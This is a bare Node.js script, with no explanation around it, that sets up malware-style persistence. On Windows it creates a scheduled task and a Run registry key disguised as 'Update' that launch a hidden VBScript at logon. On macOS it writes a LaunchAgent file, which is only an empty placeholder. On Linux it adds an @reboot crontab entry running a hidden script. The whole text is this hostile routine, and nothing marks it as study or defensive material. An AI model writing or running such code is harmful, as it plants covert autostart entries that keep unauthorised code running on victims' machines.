const { exec, execSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
if (process.platform === 'win32') {
  exec('schtasks /create /tn Update /tr "wscript.exe //B u.vbs" /sc onlogon /f');
  exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Update /d u.vbs /f');
} else if (process.platform === 'darwin') {
  fs.writeFileSync(path.join(os.homedir(), 'Library/LaunchAgents/com.update.plist'), '<plist/>');
} else {
  execSync('(crontab -l; echo "@reboot node $HOME/.u.js") | crontab -');
}
